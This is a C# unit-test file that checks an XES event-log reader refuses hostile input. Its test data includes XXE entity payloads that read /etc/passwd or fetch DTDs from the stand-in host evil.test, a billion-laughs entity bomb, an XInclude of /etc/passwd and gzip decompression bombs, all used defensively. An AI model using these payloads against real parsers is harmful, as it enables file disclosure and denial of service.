using System.Diagnostics;
using System.IO.Compression;
using System.Text;
using ApprovalCloud.Core.Logs;
using ApprovalCloud.Tests.Support;

namespace ApprovalCloud.Tests.Hostile;

/// <summary>Logs of others that are made to read our files, to fill our memory, or to keep us busy.</summary>
[Collection(nameof(Alone))]
public sealed class LogBombTests
{
    // However busy the machine is; without a limit it would be hours, or no end.
    private static readonly TimeSpan InTime = TimeSpan.FromMinutes(1);
    private const string Case = """<trace><string key="concept:name" value="1"/>""";

    [Theory]
    [InlineData("<!DOCTYPE log [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><log><string key=\"a\" value=\"&x;\"/></log>")]
    [InlineData("<!DOCTYPE log SYSTEM \"http://evil.test/log.dtd\"><log/>")]
    [InlineData("<!DOCTYPE log [<!ENTITY % x SYSTEM \"http://evil.test/x\"> %x;]><log/>")]
    [InlineData("<?xml version=\"1.0\" standalone=\"no\"?><!DOCTYPE log PUBLIC \"a\" \"file:///dev/zero\"><log/>")]
    public void DocumentType_WhateverItAsksFor_IsRefused(string xes) => Refused("LogHasDtd", Encoding.UTF8.GetBytes(xes));

    [Fact]
    public void BillionLaughs_AreRefused_BeforeAnybodyLaughs()
    {
        var entities = string.Concat(Enumerable.Range(1, 12).Select(number => $"<!ENTITY l{number} \"{string.Concat(Enumerable.Repeat($"&l{number - 1};", 10))}\">"));
        Refused("LogHasDtd", Encoding.UTF8.GetBytes($"<!DOCTYPE log [<!ENTITY l0 \"ha\">{entities}]><log><string key=\"a\" value=\"&l12;\"/></log>"));
    }

    [Fact]
    public void Entity_ThatNobodyDeclared_IsRefused() => Refused("LogIsNotXml", "<log><string key=\"a\" value=\"&xxe;\"/></log>"u8.ToArray());

    [Fact]
    public void Inclusion_IsNotFollowed()
    {
        using var content = new MemoryStream(Encoding.UTF8.GetBytes($"<log xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/>{Case}</trace></log>"));
        using var reader = new XesReader(content, new LogMapping(), new LogOptions());
        Assert.Equal("1", Assert.Single(reader.Traces()).Name);
    }

    [Fact]
    public void Utf16_WithADocumentType_IsRefusedAsWell() =>
        Refused("LogHasDtd", [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("<!DOCTYPE log [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><log>&x;</log>")]);

    [Fact]
    public void Packing_TighterThanAnyRealLog_IsRefused_InLittleMemoryAndTime()
    {
        // Well-formed and in small elements, so that no other limit is met: 200 MB in one.
        var packed = Packed(20, 10_000_000, "<event><string key=\"concept:name\" value=\"a\"/></event></trace><trace><string key=\"concept:name\" value=\"1\"/>");
        Assert.True(packed.Length < 1_400_000, $"{packed.Length}");
        var (before, watch) = (GC.GetTotalMemory(true), Stopwatch.StartNew());

        Refused("LogTooLarge", packed);

        Assert.True(watch.Elapsed < InTime, $"{watch.Elapsed}");
        Assert.True(GC.GetTotalMemory(true) - before < 50_000_000);
    }

    [Fact]
    public void PackedInPacked_IsNoLog()
    {
        using var outer = new MemoryStream();
        using (var gzip = new GZipStream(outer, CompressionLevel.Fastest, leaveOpen: true))
            gzip.Write(Packed(1, 1_000_000, "<event/>"));
        Refused("LogIsNotXml", outer.ToArray());
    }

    private static void Refused(string rule, byte[] content)
    {
        using var stream = new MemoryStream(content);
        var refused = Assert.Throws<LogRefusedException>(() =>
        {
            using var reader = new XesReader(stream, new LogMapping(), new LogOptions());
            return reader.Traces().Count();
        });
        Assert.Equal(rule, refused.Problem.Rule);
    }

    // Members of gzip may follow each other, and are read as one.
    private static byte[] Packed(int times, int length, string part) =>
        [.. Packed("<log>" + Case), .. Enumerable.Repeat(Packed(string.Concat(Enumerable.Repeat(part, length / part.Length))), times).SelectMany(member => member)];

    private static byte[] Packed(string content)
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.SmallestSize, leaveOpen: true))
            gzip.Write(Encoding.UTF8.GetBytes(content));
        return packed.ToArray();
    }
}
